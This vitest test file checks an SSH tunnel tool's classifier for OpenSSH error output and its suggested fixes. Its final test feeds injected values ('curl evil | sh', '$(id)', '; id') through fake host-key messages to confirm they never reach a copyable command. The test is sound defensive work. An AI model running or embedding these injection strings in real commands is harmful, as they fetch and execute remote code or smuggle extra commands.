import { expect, it } from 'vitest';
import { tunnelInputSchema } from '#contract/tunnel';
import { classifySsh } from './classify-ssh.ts';
import type { SshTunnel } from './ports.ts';

const TUNNEL = tunnelInputSchema.parse({
  direction: 'reverse',
  name: 't',
  host: 'b',
  localPort: 8000,
  remotePort: 8080,
}) as SshTunnel;
const IN = 'Authenticated to b ([192.0.2.1]:22) using "publickey".';

function codeOf(lines: string[], { isVerbose = false } = {}): string {
  return classifySsh(lines, { tunnel: TUNNEL, isVerbose }).problem.code;
}

/** As OpenSSH 9.2 says it. */
it.each([
  [
    'host-key-changed',
    [
      '@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @',
      'Offending ED25519 key in /d/known_hosts:1',
      'Host key for [b]:22 has changed and you have requested strict checking.',
      'Host key verification failed.',
    ],
  ],
  [
    'host-key-refused',
    [
      'No ED25519 host key is known for b and you have requested strict checking.',
      'Host key verification failed.',
    ],
  ],
  ['key-refused-unnamed', ['me@b: Permission denied (publickey).']],
  ['key-refused-unnamed', ['Received disconnect from 192.0.2.1 port 22:2: Too many authentication failures']],
  ['identity-open', ["Permissions 0644 for '/k/id' are too open.", 'me@b: Permission denied (publickey).']],
  ['remote-port-busy', [IN, 'Error: remote port forwarding failed for listen port 8080']],
  [
    'local-port-busy-unnamed',
    [
      IN,
      'bind [127.0.0.1]:8000: Address already in use',
      'channel_setup_fwd_listener_tcpip: cannot listen to port: 8000',
      'Could not request local forwarding.',
    ],
  ],
  ['host-unknown', ['ssh: Could not resolve hostname b: Name or service not known']],
  ['host-unknown', ['ssh: Could not resolve hostname b: Temporary failure in name resolution']],
  ['connection-refused', ['ssh: connect to host b port 22: Connection refused']],
  ['connect-timeout', ['ssh: connect to host b port 22: Connection timed out']],
  [
    'connect-timeout',
    ['Connection timed out during banner exchange', 'Connection to 192.0.2.1 port 22 timed out'],
  ],
  ['no-route', ['ssh: connect to host b port 22: No route to host']],
  ['no-route', ['ssh: connect to host b port 22: Network is unreachable']],
  ['network-lost', [IN, 'Timeout, server b not responding.']],
  ['network-lost', [IN, 'client_loop: send disconnect: Broken pipe']],
  ['closed-by-host', [IN, 'Connection to b closed by remote host.']],
  [
    'closed-by-host',
    [
      'kex_exchange_identification: Connection closed by remote host',
      'Connection closed by 192.0.2.1 port 22',
    ],
  ],
  [
    'closed-by-host',
    ['kex_exchange_identification: read: Connection reset by peer', 'Connection reset by 192.0.2.1 port 22'],
  ],
  [
    'jump-failed',
    [
      'me@jump: Permission denied (publickey).',
      'kex_exchange_identification: Connection closed by remote host',
      'Connection closed by UNKNOWN port 65535',
    ],
  ],
  [
    'jump-failed',
    [
      'channel 0: open failed: connect failed: Connection refused',
      'stdio forwarding failed',
      'Connection closed by UNKNOWN port 65535',
    ],
  ],
  [
    'configuration-broken',
    [
      '/home/me/.ssh/config: line 3: Bad configuration option: hots',
      '/d/x.conf: terminating, 1 bad configuration options',
    ],
  ],
  ['ended-saying', [IN, 'something new in OpenSSH 12']],
  [
    'ended',
    [
      IN,
      'Transferred: sent 3672, received 3260 bytes, in 2.4 seconds',
      'Bytes per second: sent 1525.5, received 1354.4',
    ],
  ],
  ['ended', []],
] as [string, string[]][])('%s: %j', (code, lines) => {
  expect(codeOf(lines)).toBe(code);
  // The lines come from a terminal's program.
  expect(codeOf(lines.map((line) => `${line}\r`))).toBe(code);
});

it('a key that is refused is named: the one that was set, or those that were offered', () => {
  const denied = 'me@b: Permission denied (publickey).';
  expect(
    classifySsh([denied], { tunnel: { ...TUNNEL, identityFile: '/k/id' }, isVerbose: false }),
  ).toMatchObject({
    problem: { message: 'b refused the key /k/id.' },
    isUnsure: true,
  });
  const offered = 'debug1: Offering public key: /home/me/.ssh/id_rsa RSA SHA256:abc agent';
  expect(classifySsh([offered, denied], { tunnel: TUNNEL, isVerbose: true })).toMatchObject({
    problem: { code: 'key-refused', values: { key: '/home/me/.ssh/id_rsa (RSA SHA256:abc)' } },
    isUnsure: false,
  });
});

it('a port that the key may not have is told from one that is taken, as soon as sshd says so', () => {
  const failed = 'Error: remote port forwarding failed for listen port 8080';
  expect(classifySsh([failed], { tunnel: TUNNEL, isVerbose: false }).isUnsure).toBe(true);
  expect(codeOf(['debug1: Remote: port forwarding refused', failed], { isVerbose: true })).toBe(
    'forwarding-prohibited',
  );
  expect(codeOf(['debug1: Remote: Server has disabled port forwarding.', failed], { isVerbose: true })).toBe(
    'forwarding-prohibited',
  );
  expect(
    codeOf(['debug1: Remote: /h/ak:1: key options: permitlisten port-forwarding', failed], {
      isVerbose: true,
    }),
  ).toBe('remote-port-busy');
});

it('debugging lines are not taken for what went wrong', () => {
  const lines = [
    'debug1: connect to address ::1 port 22: Connection refused',
    'debug1: Permission denied (x)',
    'Connection to b closed by remote host.',
  ];
  expect(codeOf(lines, { isVerbose: true })).toBe('closed-by-host');
});

it('what the other machine says in its banner becomes no command to copy, and fills no page', () => {
  const lines = [
    'Offending ED25519 key in /x"; curl evil | sh; ":1',
    'Host key for $(id) has changed and you have requested strict checking.',
    'REMOTE HOST IDENTIFICATION HAS CHANGED!',
  ];
  const { problem } = classifySsh(lines, { tunnel: TUNNEL, isVerbose: false });
  expect(problem.suggestion).toMatch(/: ssh-keygen -f "~\/\.ssh\/known_hosts" -R "b"$/);
  const open = classifySsh(["Permissions 0644 for '/k; id' are too open."], {
    tunnel: TUNNEL,
    isVerbose: false,
  });
  expect(open.problem.suggestion).not.toContain('; id');
  const long = classifySsh([`\u001b[31m${'x'.repeat(16_000)}`], { tunnel: TUNNEL, isVerbose: false });
  expect(long.problem.message.length).toBeLessThan(500);
  expect(long.problem.message).not.toMatch(/\p{Cc}/u);
});
